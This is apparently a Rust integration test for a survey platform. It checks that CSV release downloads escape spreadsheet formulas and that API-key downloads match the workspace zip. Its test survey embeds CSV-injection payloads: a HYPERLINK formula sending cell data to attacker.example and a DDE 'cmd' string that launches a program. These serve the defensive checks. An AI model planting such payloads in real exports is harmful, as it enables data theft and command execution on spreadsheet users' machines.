//! Release downloads opened in a spreadsheet: titles and labels come from survey definitions
//! (often written by someone else) and translators' sheets, so a text starting with `=`, `+`,
//! `-`, `@`, a tab or a carriage return must reach every CSV as text, never as a formula.

use crate::helpers::TestApp;
use crate::org_client::OrgClient;
use serde_json::json;

/// Every text a release's tables show starts with a character a spreadsheet would run.
const RISKY: &str = r#"
id = "risky"
title = { en = "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"Survey\")" }
languages = ["en"]
mode = "invite"
threshold = 5
min_responses = 10

[[pages]]
title = { en = "-2+3+cmd|' /C calc'!A0" }
  [[pages.questions]]
  id = "q1"
  type = "single"
  role = "plain"
  required = true
  text = { en = "=1+2" }
  options = [
    { id = "a", text = { en = "=HYPERLINK(\"http://attacker.example\",\"click\")" } },
    { id = "b", text = { en = "+SUM(1,2)" } },
    { id = "c", text = { en = "@SUM(3,4)" } },
  ]

  [[pages.questions]]
  id = "q2"
  type = "single"
  role = "plain"
  required = true
  text = { en = "-1+cmd" }
  options = [
    { id = "x", text = { en = "\tTAB=1+1" } },
    { id = "y", text = { en = "\rCR=1+1" } },
    { id = "z", text = { en = "Q;=1+1" } },
  ]
"#;

const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn release_zip(app: &TestApp) -> Vec<u8> {
    let org = OrgClient::log_in(app, "maria", "organiser");
    let zip = ureq::get(&app.url("/org/s/risky/releases/1/csv"))
        .set("Cookie", org.cookie.as_deref().expect("cookie"))
        .call()
        .expect("zip");
    assert_eq!(zip.content_type(), "application/zip");
    let mut bytes = Vec::new();
    std::io::Read::read_to_end(&mut zip.into_reader(), &mut bytes).expect("bytes");
    bytes
}

/// A server whose risky survey is answered 36 times and has its first release.
fn risky_release() -> TestApp {
    let app = TestApp::spawn();
    app.import(RISKY);
    app.open_survey("risky");
    for (i, code) in app.issue_codes("risky", 36).iter().enumerate() {
        let (q1, q2) = (["a", "b", "c"][i % 3], ["x", "y"][i % 2]);
        let answers = json!({"q1": q1, "q2": q2});
        let (status, body) = app.submit("risky", code, &answers);
        assert_eq!(status, 201, "{body}");
    }
    let (ok, _, stderr) = app.cli(&["release", "publish", "risky"]);
    assert!(ok, "{stderr}");
    app
}

#[test]
fn every_cell_of_every_release_csv_is_text_a_spreadsheet_will_not_run() {
    let app = risky_release();

    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(release_zip(&app))).expect("a zip");
    let mut cells = Vec::new();
    let mut semicolon_quoted = false;
    for i in 0..archive.len() {
        let mut file = archive.by_index(i).expect("file");
        let name = file.name().expect("name").into_owned();
        if !name.ends_with(".csv") {
            continue;
        }
        let mut text = String::new();
        std::io::Read::read_to_string(&mut file, &mut text).expect("utf-8");
        // A spreadsheet that splits at `;` too (decimal-comma languages) keeps a quoted cell
        // whole: "Q;=1+1" unquoted would put `=1+1` in a cell of its own and run it.
        assert!(
            !text.contains(",Q;=1+1") && !text.starts_with("Q;=1+1"),
            "{name}: {text}"
        );
        semicolon_quoted |= text.contains("\"Q;=1+1\"");
        let file = text.as_bytes();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(file);
        for record in reader.records() {
            let record = record.unwrap_or_else(|e| panic!("{name}: {e}"));
            cells.extend(record.iter().map(|c| (name.clone(), c.to_owned())));
        }
    }
    assert!(!cells.is_empty(), "the release has tables");
    assert!(
        semicolon_quoted,
        "the label with a semicolon is in a file, quoted"
    );
    for (name, cell) in &cells {
        let runs = cell.starts_with(FORMULA_STARTS) && cell.parse::<f64>().is_err();
        assert!(!runs, "{name}: {cell:?} would run as a formula");
    }
    // The texts are all there, as text: the table's title, every label of both questions.
    for text in [
        "=1+2",
        "-1+cmd",
        "=HYPERLINK(\"http://attacker.example\",\"click\")",
        "+SUM(1,2)",
        "@SUM(3,4)",
        "\tTAB=1+1",
        "\rCR=1+1",
    ] {
        let shown = format!("'{text}");
        assert!(
            cells.iter().any(|(_, c)| *c == shown),
            "{shown:?} missing from {cells:#?}"
        );
    }
}

/// DESIGN §10: an organiser's API key downloads a release as CSV as well as JSON — the same zip
/// as the workspace's, byte for byte, audited as a download; without a key, or for a release
/// that does not exist, nothing.
#[test]
fn an_api_key_downloads_a_release_as_the_same_csv_zip_as_the_workspace() {
    let app = risky_release();
    let from_workspace = release_zip(&app);
    let key = format!("Bearer {}", crate::org_client::api_key(&app, "maria"));
    for which in ["1", "latest"] {
        let response = ureq::get(&app.url(&format!("/api/v1/surveys/risky/releases/{which}/csv")))
            .set("Authorization", &key)
            .call()
            .expect("zip");
        assert_eq!(response.content_type(), "application/zip");
        assert!(response
            .header("Content-Disposition")
            .is_some_and(|d| d.contains("risky-release-1-csv.zip")));
        let mut bytes = Vec::new();
        std::io::Read::read_to_end(&mut response.into_reader(), &mut bytes).expect("bytes");
        assert_eq!(bytes, from_workspace, "{which}: the workspace's zip");
    }
    let status = |path: &str, key: Option<&str>| {
        let mut request = ureq::get(&app.url(path));
        if let Some(key) = key {
            request = request.set("Authorization", key);
        }
        match request.call() {
            Ok(r) => r.status(),
            Err(ureq::Error::Status(code, _)) => code,
            Err(e) => panic!("{e}"),
        }
    };
    assert_eq!(status("/api/v1/surveys/risky/releases/1/csv", None), 401);
    assert_eq!(
        status("/api/v1/surveys/risky/releases/2/csv", Some(&key)),
        404
    );
    assert_eq!(
        status("/api/v1/surveys/nope/releases/1/csv", Some(&key)),
        404
    );
    let org = OrgClient::log_in_existing(&app, "maria");
    let log = org.get("/org/audit").html;
    assert_eq!(log.matches("release 1 as CSV").count(), 2, "{log}");
}
